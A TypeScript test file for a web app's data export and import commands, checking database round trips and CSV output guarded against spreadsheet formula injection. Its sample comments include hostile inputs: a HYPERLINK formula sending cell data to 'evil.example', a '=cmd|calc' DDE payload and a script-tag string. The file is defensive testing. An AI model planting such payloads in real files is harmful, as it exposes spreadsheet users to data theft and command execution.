import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import { guardedText, unguardedText } from '#backup/formula-guard.ts';
import { keptTables, leftOut, leftOutColumns } from '#backup/kept-tables.ts';
import { createSearchCounts } from '#search/misses/search-counts.server.ts';
import { createStaffStore } from '#staff/sign-in/table-staff-store.server.ts';
import { createFeedbackStore } from '#votes/feedback/feedback-tables.server.ts';
import { createSuspicionStore } from '#votes/suspicion/suspicion-tables.server.ts';
import {
  data,
  dataPlacesForEachTest,
  engines,
  expectDone,
  open,
  type Place,
} from './data-commands.ts';
import { aVote } from './vote-builder.ts';

const places = dataPlacesForEachTest();

/** What a comment may hold: formulas, quotes, line ends, letters of the whole world, markup. */
const texts = [
  '=1+1',
  "'=1",
  ' \t=1',
  '@SUM(A1)',
  '+44 and more',
  '-2',
  '＝1',
  '=HYPERLINK("https://evil.example?x="&A1)',
  '"quoted",\nline\nline',
  'a,b;c',
  'é𝒳 نص 漢字',
  '<script>alert(1)</script>',
  '{"table":"votes"}',
  'true',
  '1e5',
  '\uFEFFmark',
];

/** Puts something into every table. */
async function fill(place: Place): Promise<void> {
  const { store, tables, ...votes } = await open(place);
  const feedback = createFeedbackStore(tables, () => 1_700_000_000_000);
  for (const [n, text] of texts.entries()) {
    const vote = aVote({ articleId: 1 + (n % 3), helpful: n % 2 === 0 });
    await store.cast(vote);
    const { articleId, voter } = vote;
    await feedback.give({
      articleId,
      voter,
      helpful: false,
      reason: n % 2 === 0 ? 'outdated' : undefined,
      comment: n % 5 === 0 ? undefined : text,
      contentVersion: n % 4 === 0 ? undefined : 'v1',
    });
  }
  const [handled] = await feedback.comments({ most: 1 });
  await feedback.handle(handled?.id ?? '', { state: 'done', note: 'a1b2c3', by: 'blue' });
  // One that was handled and then written anew.
  const voter = new Uint8Array(16).fill(7);
  const own = { articleId: 3, voter, helpful: true, reason: undefined, contentVersion: 'v1' };
  await feedback.give({ ...own, comment: 'It is gone.' });
  const about3 = await feedback.comments({ most: 99, articleId: 3 });
  const given = about3.find(({ text }) => text === 'It is gone.');
  await feedback.handle(given?.id ?? '', { state: 'planned', note: '=2+2', by: 'red' });
  await feedback.give({ ...own, comment: 'It is gone again.' });
  const changed = aVote({ contentVersion: undefined });
  await store.cast(changed);
  await store.cast(aVote({ voter: changed.voter, helpful: null }));
  await feedback.addStuck({
    articleId: 2,
    voter: changed.voter,
    contentVersion: 'v1',
    step: 'é-1',
  });
  const searches = createSearchCounts(tables);
  await searches.addMiss({ query: '=cmd|calc', kind: 'nothing' });
  await searches.addSolved(2);
  const suspicion = { articleId: 1, day: '2026-03-01', network: 'n', counted: 60, refused: 4 };
  await createSuspicionStore(tables).add(suspicion);
  await createStaffStore(tables).add({ name: 'blue', passwordHash: '$argon2id$x', createdAt: 1 });
  await votes.close();
}

describe.each(engines)('the data commands on %s', (engine) => {
  let place: Place;
  const other = engines.find((name) => name !== engine) ?? engine;

  beforeEach(async ({ skip }) => {
    skip(places.isSkipped, 'PostgreSQL is not installed');
    place = await places.newPlace(engine);
  });

  it(`move everything to ${other} and back without changing a letter`, async () => {
    await fill(place);
    const before = await places.rowsOf(place);
    const path = join(places.folder, 'all.jsonl');
    await expectDone('export', path, place);
    const there = await places.newPlace(other);
    await expectDone('import', path, there);
    expect((await places.rowsOf(there)).sort()).toEqual(before.sort());
    await expectDone('export', path, there);
    const back = await places.newPlace(engine);
    await expectDone('import', path, back);
    expect((await places.rowsOf(back)).sort()).toEqual(before);
    const { store, ...votes } = await open(back);
    expect(await store.cast(aVote({ articleId: 9 }))).toMatchObject({ effect: 'added' });
    await votes.close();
    expect(statSync(path).mode & 0o077).toBe(0);
  }, 60_000);

  it('write CSV that no spreadsheet takes for a formula, and read it again', async () => {
    await fill(place);
    const before = await places.rowsOf(place);
    const path = join(places.folder, 'csv');
    await expectDone('export', path, place);
    const names = readdirSync(path).sort();
    expect(names).toContain('feedback.csv');
    expect(names).not.toContain('staff_accounts.csv');
    for (const name of names) {
      const text = readFileSync(join(path, name), 'utf8');
      expect(text.startsWith('\uFEFF"')).toBe(true);
      const cells = [...text.slice(1).matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(
        ([, cell = '']) => cell,
      );
      expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))).toEqual([]);
    }
    const copy = await places.newPlace(engine);
    await expectDone('import', path, copy);
    const isPublic = (row: string): boolean =>
      !/^(?:\{"table":"staff_accounts"|\{"rows":)/.test(row);
    expect((await places.rowsOf(copy)).filter(isPublic)).toEqual(before.filter(isPublic));
  }, 60_000);

  it('say what was written, and that CSV is without accounts', async () => {
    await fill(place);
    const folder = join(places.folder, 'kb.json');
    expect(await expectDone('export', folder, place)).toMatch(
      /^Wrote \d+ rows to the folder .*kb\.json, one CSV file a table\. Accounts of staff are left out;.*\.jsonl\.\n$/,
    );
    const file = join(places.folder, 'kb.jsonl');
    expect(await expectDone('export', file, place)).toMatch(
      /^Wrote \d+ rows to the file .*kb\.jsonl, accounts of staff among them\.\n$/,
    );
  }, 60_000);

  it.each([
    [';', 'semicolons'],
    ['\t', 'tabs'],
  ])(
    'name the separator of a CSV that has another one: %j',
    async (separator, name) => {
      await fill(place);
      const folder = join(places.folder, 'csv');
      await expectDone('export', folder, place);
      const path = join(folder, 'votes.csv');
      const text = readFileSync(path, 'utf8');
      for (const saved of [
        text.replaceAll('","', `"${separator}"`),
        text.replaceAll('","', separator).replaceAll('"', ''),
      ]) {
        writeFileSync(path, saved);
        expect(await data('import', folder, await places.newPlace(engine))).toEqual({
          code: 1,
          text: `"${path}" has ${name} between its cells, where "npm run data:export" writes commas. Save it with commas. Nothing was imported.\n`,
        });
      }
    },
    60_000,
  );

  it('import into an empty database only, and all or nothing', async () => {
    await fill(place);
    const path = join(places.folder, 'all.jsonl');
    await expectDone('export', path, place);
    const again = await data('import', path, place);
    expect(again).toEqual({
      code: 1,
      text: expect.stringContaining('there are rows in "votes" already'),
    });

    const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
    const faults: Record<string, string[]> = {
      'its last line is missing': lines.slice(0, -1),
      'Line 5 of': [...lines.slice(0, 4), '{"table":"votes","row":{}}', ...lines.slice(5)],
      'Line 1 of': ['{"file":"something else"}', ...lines.slice(1)],
      [`Line ${lines.length - 1} of`]: [...lines.slice(0, 3), ...lines.slice(4)],
    };
    const empty = await places.newPlace(engine);
    for (const [sentence, changed] of Object.entries(faults)) {
      const spoilt = join(places.folder, 'spoilt.jsonl');
      writeFileSync(spoilt, changed.join('\n'));
      const said = await data('import', spoilt, empty);
      expect(said).toEqual({ code: 1, text: expect.stringContaining(sentence) });
    }
    expect(await places.rowsOf(empty)).toEqual(['{"rows":0}', '']);
  }, 60_000);

  it.each(['all.jsonl', 'csv'])(
    'import what an earlier version exported, without dates of handling and what was before: %s',
    async (name) => {
      await fill(place);
      const before = (await places.rowsOf(place)).filter((row) => row.includes('"feedback"'));
      const path = join(places.folder, name);
      await expectDone('export', path, place);
      const file = name === 'csv' ? join(path, 'feedback.csv') : path;
      const text = readFileSync(file, 'utf8');
      const earlier = text
        .replaceAll(/,"handled_at":(?:\d+|null)(?:,"\w+_before":(?:\d+|null|"[^"]*"))+/g, '')
        .replaceAll(/(?:,"[^"\r\n]*"){5}\r\n/g, '\r\n');
      expect(earlier).not.toMatch(/handled_at|_before/);
      writeFileSync(file, earlier);
      const there = await places.newPlace(engine);
      await expectDone('import', path, there);
      expect(before.filter((row) => row.includes('"handled_at":1700000000000'))).toHaveLength(1);
      expect(before.filter((row) => row.includes('"note_before":"=2+2"'))).toHaveLength(1);
      expect((await places.rowsOf(there)).filter((row) => row.includes('"feedback"'))).toEqual(
        before.map((row) =>
          row.replaceAll(/("handled_at|"\w+_before)":(?:\d+|"[^"]*")/g, '$1":null'),
        ),
      );
    },
    60_000,
  );

  it('know every table and column: none is forgotten when one is added', async () => {
    const { tables, ...votes } = await open(place);
    const found = await tables.introspection.getTables({ withInternalKyselyTables: true });
    await votes.close();
    const known = (name: string): boolean =>
      !leftOut.includes(name) && !leftOutColumns.includes(name);
    const columns = (names: Iterable<string>): string[] => [...names].filter(known).sort();
    expect(
      Object.fromEntries(
        found
          .filter(({ name }) => known(name))
          .map(({ name, columns: all }) => [name, columns(all.map((column) => column.name))]),
      ),
    ).toEqual(
      Object.fromEntries(
        keptTables.map((table) => [table.name, columns(Object.keys(table.columns))]),
      ),
    );
  });
});

it('the guard against formulas can always be taken away', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const guarded = guardedText(text);
      expect(/^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u.test(guarded)).toBe(false);
      expect(unguardedText(guarded)).toBe(text);
    }),
    { numRuns: 2_000 },
  );
});
